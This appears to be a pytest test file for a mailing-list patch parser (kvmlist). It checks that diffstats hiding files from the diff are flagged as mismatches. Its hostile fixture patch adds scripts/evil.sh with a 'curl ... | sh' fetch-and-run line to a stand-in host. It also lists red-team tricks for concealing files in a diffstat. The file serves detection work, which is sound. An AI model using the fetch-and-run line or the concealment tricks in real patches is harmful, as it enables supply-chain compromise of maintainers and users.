"""A written diffstat that hides a file of the diff is a ``diffstat-mismatch``, found lazily.

A reviewer reads the diffstat under ``---``; ``git am`` applies the diff. The check runs where
a user asks for checks (``Patch.diffstat_defects``, ``kvmlist check``, strict mode), never
at parse time: a parsed patch's text fields are lazy, and the rule reads the whole diff.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

import kvmlist
from kvmlist.analysis.check import check_messages, check_part
from kvmlist.errors import MessageParseError
from kvmlist.models import FileChange, FileDiff
from kvmlist.parse.diffstat_check import mismatch, shown_name

from .conftest import mail, mbox
from .scaling import LINEAR_BOUND, growth

# A hostile sender's patch: the diffstat shows one file, git am applies two.
HOSTILE = (
    "The vcpu's reset path forgot to clear the pending flag.\n\n"
    "Signed-off-by: Eve Mallory <eve@example.net>\n---\n"
    " arch/arm64/kvm/reset.c | 2 +-\n"
    " 1 file changed, 1 insertion(+), 1 deletion(-)\n\n"
    "diff --git a/arch/arm64/kvm/reset.c b/arch/arm64/kvm/reset.c\n"
    "index 3a4b5c6..7d8e9f0 100644\n"
    "--- a/arch/arm64/kvm/reset.c\n+++ b/arch/arm64/kvm/reset.c\n"
    "@@ -210,3 +210,3 @@ int kvm_reset_vcpu(struct kvm_vcpu *vcpu)\n"
    " \tspin_lock(&vcpu->arch.mp_state_lock);\n"
    "-\tvcpu->arch.reset_state.reset = true;\n"
    "+\tvcpu->arch.reset_state.reset = false;\n"
    " \tspin_unlock(&vcpu->arch.mp_state_lock);\n"
    "diff --git a/scripts/evil.sh b/scripts/evil.sh\n"
    "new file mode 100755\nindex 0000000..e69de29\n"
    "--- /dev/null\n+++ b/scripts/evil.sh\n"
    "@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -s https://example.net/x | sh\n"
    "-- \n2.47.1\n"
)
SUBJECT = "[PATCH] KVM: arm64: Clear the reset flag on vcpu reset"

# What git 2.39 format-patch writes for a rename with a change, a binary file, a pure rename
# and a mode change (git's own forms of a diffstat line), then its diff.
GIT_FORMS_DIFF = (
    "diff --git a/virt/kvm/arm/vgic/vgic-its.c b/arch/arm64/kvm/vgic/vgic-its.c\n"
    "similarity index 66%\nrename from virt/kvm/arm/vgic/vgic-its.c\n"
    "rename to arch/arm64/kvm/vgic/vgic-its.c\nindex de98044..7be73ce 100644\n"
    "--- a/virt/kvm/arm/vgic/vgic-its.c\n+++ b/arch/arm64/kvm/vgic/vgic-its.c\n"
    "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n"
    "diff --git a/fw.bin b/fw.bin\nnew file mode 100644\n"
    "index 0000000000000000000000000000000000000000..8352675d67aed6625ece79af41c27fdb4ee2e867\n"
    "GIT binary patch\nliteral 3\nKcmZQzWC8#H2LJ>B\n\nliteral 0\nHcmV?d00001\n\n"
    "diff --git a/old.txt b/new.txt\nsimilarity index 100%\n"
    "rename from old.txt\nrename to new.txt\n"
    "diff --git a/tools/run.sh b/tools/run.sh\nold mode 100644\nnew mode 100755\n"
    "-- \n2.39.5\n"
)
GIT_FORMS = {
    "whole": (
        " {virt/kvm/arm => arch/arm64/kvm}/vgic/vgic-its.c |   2 +-\n"
        " fw.bin                                           | Bin 0 -> 3 bytes\n"
        " old.txt => new.txt                               |   0\n"
        " tools/run.sh                                     |   0\n"
        " 4 files changed, 1 insertion(+), 1 deletion(-)\n"
        " rename {virt/kvm/arm => arch/arm64/kvm}/vgic/vgic-its.c (66%)\n"
        " create mode 100644 fw.bin\n rename old.txt => new.txt (100%)\n"
        " mode change 100644 => 100755 tools/run.sh\n"
    ),
    "shortened": (  # --stat-width=50: the rename's "{" cut off with the path's head
        " .../arm64/kvm}/vgic/vgic-its.c   |   2 +-\n"
        " fw.bin                           | Bin 0 -> 3 bytes\n"
        " old.txt => new.txt               |   0\n"
        " tools/run.sh                     |   0\n"
        " 4 files changed, 1 insertion(+), 1 deletion(-)\n"
    ),
}


def patch_of(body: str, subject: str = SUBJECT) -> kvmlist.Patch:
    patch = kvmlist.parse_message(mail(subject, body, sender="Eve Mallory <eve@example.net>"))
    assert isinstance(patch, kvmlist.Patch)
    return patch


def test_a_diffstat_hiding_a_file_of_the_diff_is_a_mismatch() -> None:
    [defect] = patch_of(HOSTILE).diffstat_defects
    assert defect.kind == "diffstat-mismatch"
    assert defect.detail == "the diff also changes scripts/evil.sh"


def test_the_mismatch_is_not_looked_for_at_parse_time() -> None:
    patch = patch_of(HOSTILE)
    assert "diffstat_defects" not in patch.__dict__
    assert [d.kind for d in patch.defects] == []  # parse-time defects stay what they were
    assert patch.diffstat_defects == patch.diffstat_defects  # then kept


def test_strict_mode_raises_on_a_mismatch(tmp_path: Path) -> None:
    raw = mail(SUBJECT, HOSTILE)
    with pytest.raises(MessageParseError, match="diffstat-mismatch"):
        kvmlist.parse_message(raw, strict=True)
    path = tmp_path / "hostile.mbox"
    path.write_bytes(mbox(raw))
    with pytest.raises(MessageParseError, match=r"scripts/evil\.sh"):
        list(kvmlist.read(path, strict=True))


def test_check_counts_the_mismatch_alike_in_one_process_and_in_slices() -> None:
    raws = [mail(SUBJECT, HOSTILE, message_id=f"<{i}@x>") for i in (1, 2)]
    messages = [kvmlist.parse_message(raw) for raw in raws]
    whole = check_messages(2, messages)
    assert whole.defects["diffstat-mismatch"] == 2
    assert whole.examples["diffstat-mismatch"] == ["1@x", "2@x"]
    assert check_part(messages).counts.defects == whole.defects


def test_kvmlist_check_lists_the_mismatch(tmp_path: Path) -> None:
    path = tmp_path / "hostile.mbox"
    path.write_bytes(mbox(mail(SUBJECT, HOSTILE)))
    done = subprocess.run(
        [sys.executable, "-m", "kvmlist", "check", str(path), "--format", "json"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr  # a defect, as the others: not a lost mail
    assert json.loads(done.stdout)["defects"] == {"diffstat-mismatch": 1}


@pytest.mark.parametrize("form", GIT_FORMS)
def test_git_own_diffstat_forms_are_no_mismatch(form: str) -> None:
    body = f"Move the vgic to arch/arm64.\n\nSigned-off-by: J <j@x>\n---\n{GIT_FORMS[form]}\n"
    patch = patch_of(body + GIT_FORMS_DIFF)
    assert patch.diffstat_defects == ()
    assert kvmlist.parse_message(patch.raw, strict=True) == patch


def test_a_hand_edited_count_is_no_mismatch() -> None:
    # intel-wired-lan, 2025-04-07: "ethtool.h | 14" above a hunk of 13 added lines, the
    # hunk header fixed by hand; the files are the ones shown
    patch = patch_of(HOSTILE.replace("2 +-", "14 ++++++-").split("diff --git a/scripts")[0])
    assert patch.diffstat_defects == ()


def test_a_line_taken_out_by_hand_is_a_mismatch() -> None:
    # intel-wired-lan, 2025-05-22: "5 files changed" below four lines, the diff's first
    # file (Documentation/driver-api/dpll.rst) without one
    body = HOSTILE.replace(" 1 file changed", " 2 files changed")
    [defect] = patch_of(body).diffstat_defects
    assert defect.detail == "the diff also changes scripts/evil.sh"


def test_a_summary_line_alone_is_compared_by_its_count() -> None:
    body = HOSTILE.replace(" arch/arm64/kvm/reset.c | 2 +-\n", "")
    [defect] = patch_of(body).diffstat_defects
    assert defect.detail == "1 files changed, the diff changes 2"


def test_a_line_naming_a_file_the_diff_does_not_change_is_a_mismatch() -> None:
    body = HOSTILE.replace(" 1 file changed", " arch/arm64/kvm/arm.c | 2 +-\n 2 files changed")
    [defect] = patch_of(body.split("diff --git a/scripts")[0]).diffstat_defects
    assert defect.detail == "the diff does not change arch/arm64/kvm/arm.c"


def test_a_cover_letters_diffstat_is_never_compared() -> None:
    cover = patch_of(HOSTILE, "[PATCH 0/2] KVM: arm64: reset fixes")
    assert cover.is_cover and cover.diffstat_defects == ()


@pytest.mark.parametrize(
    ("old", "new", "shown"),
    [
        (
            "virt/kvm/arm/vgic/vgic-its.c",
            "arch/arm64/kvm/vgic/vgic-its.c",
            "{virt/kvm/arm => arch/arm64/kvm}/vgic/vgic-its.c",
        ),
        ("drivers/net/dpll.c", "drivers/dpll.c", "drivers/{net => }/dpll.c"),
        ("old.txt", "new.txt", "old.txt => new.txt"),
        ("arch/x/a.c", "arch/y/a.c", "arch/{x => y}/a.c"),
        (
            "drivers/net/ethernet/intel/ice/ice_fwlog.h",
            "include/linux/net/intel/libie/fwlog.h",
            "drivers/net/ethernet/intel/ice/ice_fwlog.h => include/linux/net/intel/libie/fwlog.h",
        ),
        (None, "a/b.c", "a/b.c"),
    ],
)
def test_shown_name_is_git_own_name_of_a_file(old: str | None, new: str, shown: str) -> None:
    status = "modified" if old is None else "renamed"
    assert shown_name(FileDiff(path=new, old_path=old, status=status)) == shown


def test_a_relative_name_of_diffstat_1_names_its_file() -> None:
    # kvmarm's cocci bot and intel-wired-lan: " ice_flow.c |   54 +++---" of diffstat(1)
    diff = (FileChange(path="drivers/net/ethernet/intel/ice/ice_flow.c", insertions=26),)
    assert mismatch((FileChange(path="ice_flow.c"),), 1, diff) is None
    assert mismatch((FileChange(path="ce_flow.c"),), 1, diff) is not None


@pytest.mark.parametrize(
    ("line", "file"),
    [(".../d{i}.c", "a/b/d{i}.c"), (".../x.c", "a{i}/x.c"), ("x.c", "a{i}/x.c")],
    ids=["one-file-a-line", "every-file-a-line", "bare-every-file-a-line"],
)
def test_many_shortened_lines_against_many_files_cost_linear_time(line: str, file: str) -> None:
    # the models are built before the timing: only mismatch is measured (building 40,000
    # models under the timer let the garbage collector's passes over the whole suite's heap
    # decide the ratio on a loaded machine)
    inputs = {
        size: (
            tuple(FileChange(path=line.format(i=i)) for i in range(size)),
            tuple(FileChange(path=file.format(i=i)) for i in range(size)),
        )
        for size in (4_000, 16_000)
    }

    def work(n: int) -> object:
        lines, files = inputs[n]
        return mismatch(lines, n, files)

    assert growth(work, 4_000) < LINEAR_BOUND


def _with_stat(stat: str, diff_tail: str = "") -> str:
    """Return HOSTILE with its diffstat replaced by stat (lines and summary)."""
    head, _, rest = HOSTILE.partition("---\n")
    return head + "---\n" + stat + "\n" + rest[rest.index("diff --git") :] + diff_tail


# The red team's evasions (session 19, team H): each diffstat passed while git am applies
# scripts/evil.sh (or removes security/commoncap.c) unnamed.
EVASIONS = {
    "dots-alone": (
        " arch/arm64/kvm/reset.c | 2 +-\n ...                    | 2 ++\n"
        " 2 files changed, 3 insertions(+), 1 deletion(-)\n"
    ),
    "dots-without-slash-padded": (
        " arch/arm64/kvm/reset.c | 2 +-\n ...h                   | 2 ++\n"
        " 2 files changed, 3 insertions(+), 1 deletion(-)\n"
    ),
    "notes-summary-after-the-diffstat": (
        " arch/arm64/kvm/reset.c | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n\n"
        "Changes since v1 (see range-diff):\n  2 files changed\n"
    ),
    "non-file-line-inside-the-diffstat": (
        " arch/arm64/kvm/reset.c | 2 +-\n (generated file not shown)\n"
        " 2 files changed, 3 insertions(+), 1 deletion(-)\n"
    ),
}


@pytest.mark.parametrize("stat", EVASIONS)
def test_a_diffstat_git_never_writes_hides_no_file(stat: str) -> None:
    [defect] = patch_of(_with_stat(EVASIONS[stat])).diffstat_defects
    assert "the diff also changes scripts/evil.sh" in defect.detail


def test_one_shortened_line_names_one_file() -> None:
    # ".../kvm/reset.c" fits arch/arm64/kvm/reset.c and scripts/kvm/reset.c: it is one line
    stat = " .../kvm/reset.c | 2 +-\n 2 files changed, 2 insertions(+), 2 deletions(-)\n"
    diff = HOSTILE[HOSTILE.index("diff --git") : HOSTILE.index("diff --git a/scripts")]
    body = _with_stat(stat).split("diff --git")[0] + diff + diff.replace("arch/arm64", "scripts")
    [defect] = patch_of(body).diffstat_defects
    assert defect.detail == "the diff also changes scripts/kvm/reset.c"


def test_a_renames_old_path_is_compared_too() -> None:
    # git am removes security/commoncap.c: the line names arch/arm64/kvm/old.c
    stat = " arch/arm64/kvm/{old.c => new.c} | 0\n 1 file changed\n"
    rename = (
        "diff --git a/security/commoncap.c b/arch/arm64/kvm/new.c\nsimilarity index 100%\n"
        "rename from security/commoncap.c\nrename to arch/arm64/kvm/new.c\n-- \n2.43.0\n"
    )
    body = _with_stat(stat).split("diff --git")[0] + rename
    [defect] = patch_of(body).diffstat_defects
    assert "security/commoncap.c => arch/arm64/kvm/new.c" in defect.detail


def test_a_cut_without_slash_filling_the_name_column_is_git_own() -> None:
    # intel-wired-lan's firmware renames: git cuts a long name without a "/" to the column
    lines = (FileChange(path="...ms-1.3.52.0.pkg => ice_comms-1.3.55.0.pkg}", binary=True),)
    diff = (
        FileDiff(
            path="intel/ice/ddp-comms/ice_comms-1.3.55.0.pkg",
            old_path="intel/ice/ddp-comms/ice_comms-1.3.52.0.pkg",
            status="renamed",
            binary=True,
        ),
    )
    assert mismatch(lines, 1, diff) is None


# intel-wired-lan, 2025-05-22 (linux-firmware): git cut a firmware rename where no "/" is
# left, the name filling its column
FIRMWARE_STAT = (
    " WHENCE                                        |   2 +-\n"
    " ...ms-1.3.52.0.pkg => ice_comms-1.3.55.0.pkg} | Bin 1434500 -> 1434500 bytes\n"
    " 2 files changed, 1 insertion(+), 1 deletion(-)\n"
    " rename intel/ice/ddp-comms/{ice_comms-1.3.52.0.pkg => ice_comms-1.3.55.0.pkg} (99%)\n"
)
FIRMWARE_DIFF = (
    "diff --git a/WHENCE b/WHENCE\nindex f63d1ec..f12b14a 100644\n--- a/WHENCE\n+++ b/WHENCE\n"
    "@@ -1,3 +1,3 @@\n a\n-File: intel/ice/ddp-comms/ice_comms-1.3.52.0.pkg\n"
    "+File: intel/ice/ddp-comms/ice_comms-1.3.55.0.pkg\n b\n"
    "diff --git a/intel/ice/ddp-comms/ice_comms-1.3.52.0.pkg"
    " b/intel/ice/ddp-comms/ice_comms-1.3.55.0.pkg\nsimilarity index 99%\n"
    "rename from intel/ice/ddp-comms/ice_comms-1.3.52.0.pkg\n"
    "rename to intel/ice/ddp-comms/ice_comms-1.3.55.0.pkg\n"
    "index 5428fd5..497ed1b 100644\nGIT binary patch\nliteral 3\nKcmZQzWC8#H2LJ>B\n\n"
    "literal 3\nKcmZQzWC8#H2LJ>B\n\n-- \n2.47.1\n"
)


@pytest.mark.parametrize(("pad", "found"), [("", False), ("   ", True)])
def test_a_cut_without_slash_names_its_file_only_filling_the_column(pad: str, found: bool) -> None:
    stat = FIRMWARE_STAT.replace("pkg} |", f"pkg}}{pad} |").replace("WHENCE ", "WHENCE " + pad)
    body = f"Update ice_comms to 1.3.55.0.\n\nSigned-off-by: T <t@x>\n---\n{stat}\n"
    assert bool(patch_of(body + FIRMWARE_DIFF).diffstat_defects) is found
